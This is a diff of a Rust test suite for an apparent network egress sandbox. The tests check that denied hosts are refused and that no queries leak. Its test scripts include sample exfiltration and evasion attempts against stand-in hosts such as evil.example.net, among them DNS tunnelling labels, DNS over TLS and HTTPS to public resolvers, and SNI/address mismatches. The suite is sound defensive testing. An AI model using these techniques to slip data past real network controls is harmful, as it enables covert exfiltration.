@@ -3,9 +3,7 @@
 use std::net::SocketAddr;
 
 use gig_policy::DenyReason;
-use gig_tests::lab::{
-    Finished, Lab, denial::Refusal, http_origin::greet, network::internet_address,
-};
+use gig_tests::lab::{Finished, Lab, Way, denial::Refusal, http_origin::greet};
 
 const ALLOWED: &str = "api.example.com";
 
@@ -14,13 +12,11 @@ fn labels_under_a_denied_name_are_not_looked_up() {
     let lab = Lab::new();
     let script = "for n in range(20): print(dns(f'{n:040x}.tunnel.evil.example.net'))";
     let run = lab.gig().allow(ALLOWED).wire(script);
-    assert!(
-        lab.resolver.asked().is_empty(),
-        "ESCAPED: {:?}; {run}",
-        lab.resolver.asked()
-    );
     Refusal::new(DenyReason::HostNotAllowed)
         .repeatedly()
+        .client(|run| run.text() == "(3, 0)\n".repeat(20))
+        .unseen_by(&lab.resolver)
+        .nothing_leaves()
         .check(&run);
 }
 
@@ -29,13 +25,12 @@ fn labels_under_an_allowed_wildcard_are_not_looked_up_before_a_connection() {
     let lab = Lab::new();
     let script = "for n in range(20): print(dns(f'{n:040x}.data.example.com'))";
     let run = lab.gig().allow("*.data.example.com").wire(script);
-    assert!(
-        lab.resolver.asked().is_empty(),
-        "ESCAPED: {:?}; {run}",
-        lab.resolver.asked()
-    );
-    assert!(run.packets == 0, "ESCAPED: {run}");
-    let _run = run.says("(0, 1)");
+    // Nothing is refused: the program has its addresses, and nobody outside has heard a label.
+    Refusal::none()
+        .client(|run| run.text() == "(0, 1)\n".repeat(20))
+        .unseen_by(&lab.resolver)
+        .nothing_leaves()
+        .check(&run);
 }
 
 #[test]
@@ -44,13 +39,12 @@ fn other_record_types_carry_nothing() {
     let script = "for kind in (2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 64, 65, 255, 65280): \
         print(kind, dns('evil.example.net', kind), dns('api.example.com', kind))";
     let run = lab.gig().allow(ALLOWED).wire(script);
-    assert!(
-        lab.resolver.asked().is_empty(),
-        "ESCAPED: {:?}; {run}",
-        lab.resolver.asked()
-    );
+    let nothing = |line: &str| line.ends_with("(3, 0) (0, 0)") || line == "255 (5, 0) (5, 0)";
     Refusal::new(DenyReason::HostNotAllowed)
         .repeatedly()
+        .client(|run| run.text().lines().count() == 14 && run.text().lines().all(nothing))
+        .unseen_by(&lab.resolver)
+        .nothing_leaves()
         .check(&run);
 }
 
@@ -68,6 +62,7 @@ fn resolver_of_its_own_over_udp_is_answered_by_gig() {
     Refusal::new(DenyReason::HostNotAllowed)
         .of("secret.evil.example.net")
         .client_says("(3, 0)")
+        .nothing_leaves()
         .check(&run);
 }
 
@@ -77,6 +72,7 @@ fn resolver_of_its_own_over_tcp_is_answered_by_gig() {
     Refusal::new(DenyReason::HostNotAllowed)
         .of("secret.evil.example.net")
         .client_says("(3, 0)")
+        .nothing_leaves()
         .check(&run);
 }
 
@@ -88,10 +84,14 @@ fn dns_over_tls_to_a_public_resolver_is_refused() {
         conversation.drain()
     });
     let script = "def go():\n s = tls('1.1.1.1', 853, sni='one.one.one.one'); \
-        s.sendall(b'\\x00\\x05query'); return rest(s)\nattempt(go)";
+        s.sendall(b'\\x00\\x05query'); return ending(s)\nattempt(go)";
     let run = lab.gig().allow(ALLOWED).wire(script);
-    let refusal = Refusal::new(DenyReason::HostNotAllowed).or(DenyReason::IpNotAllowed);
-    refusal.unseen_by(&origin).check(&run);
+    Refusal::new(DenyReason::HostNotAllowed)
+        .of("one.one.one.one")
+        .client_says("got: closed after b'HTTP/1.1 400")
+        .unseen_by(&origin)
+        .nothing_leaves()
+        .check(&run);
 }
 
 #[test]
@@ -100,14 +100,20 @@ fn dns_over_https_to_a_public_resolver_is_refused() {
     let at: SocketAddr = "1.1.1.1:443".parse().expect("an address");
     let origin = lab.tls(at, &["1.1.1.1"], &[], |conversation| conversation.drain());
     let url = "https://1.1.1.1/dns-query?name=secret.evil.example.net&type=TXT";
-    for way in gig_tests::lab::Way::BOTH {
+    for way in Way::BOTH {
         let run = lab
             .gig()
             .allow(ALLOWED)
             .going(way)
             .run(["curl", "-sS", "-k", "-m", "60", url]);
-        let refusal = Refusal::new(DenyReason::IpNotAllowed).or(DenyReason::NameMissing);
-        refusal.unseen_by(&origin).check(&run);
+        Refusal::new(DenyReason::IpNotAllowed)
+            .client(|run| match way {
+                Way::ByProxy => run.error_text().contains("response 403"),
+                Way::Straight => run.text().contains("ip_not_allowed"),
+            })
+            .unseen_by(&origin)
+            .nothing_leaves()
+            .check(&run);
     }
 }
 
@@ -119,27 +125,29 @@ fn synthetic_addresses_are_worthless_to_another_name() {
     // The address of the allowed name, used with the name of a denied one.
     let script = "a = socket.gethostbyname('api.example.com')\n\
         if a.startswith('11.'): a = '11.0.1.3'\n\
-        def go():\n s = tls(a, sni='evil.example.net'); s.sendall(get('/', 'evil.example.net')); return rest(s)\n\
+        def go():\n s = tls(a, sni='evil.example.net'); s.sendall(get('/', 'evil.example.net')); return ending(s)\n\
         attempt(go)";
     let run = lab
         .gig()
         .allow(ALLOWED)
         .wire(&script.replace("11.0.1.3", &other.raw().address().ip().to_string()));
-    let refusal = Refusal::new(DenyReason::NamesDisagree).or(DenyReason::HostNotAllowed);
-    refusal.unseen_by(other.raw()).check(&run);
+    Refusal::new(DenyReason::NamesDisagree)
+        .client_says("refused: ConnectionResetError")
+        .unseen_by(&other)
+        .nothing_leaves()
+        .check(&run);
 }
 
 #[test]
 fn unknown_synthetic_addresses_lead_nowhere() {
     let lab = Lab::new();
     let canary = lab.tcp("198.18.7.7:80".parse().expect("an address"), |c| c.drain());
-    let script = "def go():\n s = connect('198.18.7.7', 80); s.sendall(get('/', '198.18.7.7')); return rest(s)\nattempt(go)";
+    let script = "def go():\n s = connect('198.18.7.7', 80); s.sendall(get('/', '198.18.7.7')); return until(s, '\\r\\n\\r\\n')\nattempt(go)";
     let run = lab.gig().allow(ALLOWED).wire(script);
-    let refusal = Refusal::new(DenyReason::IpNotAllowed).or(DenyReason::HostNotAllowed);
-    refusal
-        .or(DenyReason::NameMissing)
-        .or(DenyReason::PrivateAddress)
+    Refusal::new(DenyReason::IpNotAllowed)
+        .client_says("got: HTTP/1.1 403")
         .unseen_by(&canary)
+        .nothing_leaves()
         .check(&run);
 }
 
@@ -148,13 +156,12 @@ fn a_name_is_not_asked_upstream_for_a_denied_port() {
     let lab = Lab::new();
     let _address = lab.address_for(ALLOWED);
     let run = lab.gig().allow("api.example.com:443").wire(
-        "def go():\n s = connect('api.example.com', 9999); s.sendall(b'x\\n'); return repr(rest(s))\nattempt(go)",
+        "def go():\n s = connect('api.example.com', 9999); s.sendall(b'x\\n'); return ending(s)\nattempt(go)",
     );
-    assert!(
-        lab.resolver.asked().is_empty(),
-        "ESCAPED: {:?}; {run}",
-        lab.resolver.asked()
-    );
-    Refusal::new(DenyReason::PortNotAllowed).check(&run);
-    let _unused = internet_address(1);
+    Refusal::new(DenyReason::PortNotAllowed)
+        .of(ALLOWED)
+        .client_says("got: ConnectionResetError after b''")
+        .unseen_by(&lab.resolver)
+        .nothing_leaves()
+        .check(&run);
 }
